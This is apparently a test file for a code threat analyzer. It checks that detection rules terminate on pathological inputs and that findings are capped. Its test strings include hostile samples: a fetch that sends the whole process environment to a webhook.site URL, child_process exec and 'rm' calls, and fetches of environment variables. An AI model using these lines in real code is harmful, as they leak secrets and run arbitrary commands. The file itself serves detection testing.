import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type AnalysisLanguage, Analyzer } from '../../../src/admission/threat/analyzer.ts';

const analyzer = await Analyzer.open();

/** Sources that are made to keep rules busy; each ends, which is what is asserted: node's test runner would not. */
const BUSY: readonly (readonly [name: string, language: AnalysisLanguage, source: string])[] = [
  [
    'thousands of writes and runs',
    'javascript',
    `const fs = require('fs'), cp = require('child_process');${Array.from({ length: 3000 }, (_, i) => `fetch('https://a${i}.example.invalid').then((r) => { fs.writeFileSync('/tmp/x${i}', r); cp.exec('y' + r) });`).join('\n')}`,
  ],
  ['comments that never end', 'javascript', '/*@cc_on '.repeat(100_000)],
  ['endless loops', 'javascript', 'while (true) { f() }\n'.repeat(10_000)],
  [
    'options without end',
    'javascript',
    `require('child_process').exec('rm ${'-a '.repeat(1800)}');\n`.repeat(100),
  ],
  ['texts that nearly match', 'javascript', `x = [${`'${'a-'.repeat(1900)}',`.repeat(400)}]`],
  ['one long text', 'python', `import os\nos.system("x")\nx = "exec(${'_'.repeat(100_000)}"`],
  ['reads and sends', 'javascript', 'fetch(process.env.A + process.env.B);\n'.repeat(5000)],
  ['gaps', 'javascript', `a;${' '.repeat(130)}\n`.repeat(4000)],
];

for (const [name, language, source] of BUSY) {
  test(`rules end on ${name}, and do not find without end`, { timeout: 60_000 }, () => {
    const { findings, score } = analyzer.analyze(source, {
      language,
      model: false,
      timeoutMs: 20_000,
    });
    assert.ok(findings.length <= 200);
    assert.ok(score >= 0 && score <= 100);
  });
}

test('what stands behind a thousand harmless calls is either found or said not to be looked at', () => {
  const source = `${`fetch('https://a.example.invalid');\n`.repeat(1200)}fetch('https://webhook.site/x', { body: JSON.stringify(process.env) });`;
  const { findings } = analyzer.analyze(source, {
    language: 'javascript',
    profile: 'package',
    model: false,
  });
  assert.ok(findings.some(({ rule, score }) => rule === 'analysis/steps-limit' && score >= 40));
});

test('findings of programs within texts count for the limit of the report, which says that it left some out', () => {
  const program = Array.from({ length: 120 }, (_, i) => `fetch("https://a.example.invalid/${i}");`);
  const source = `eval(${JSON.stringify(program.join(''))});`.repeat(3);
  const { findings, notes } = analyzer.analyze(source, { language: 'javascript', model: false });
  assert.equal(findings.length, 200);
  assert.ok(notes.includes('findings-limit'));
  assert.ok(findings.some(({ family }) => family === 'dynamic-code'));
});
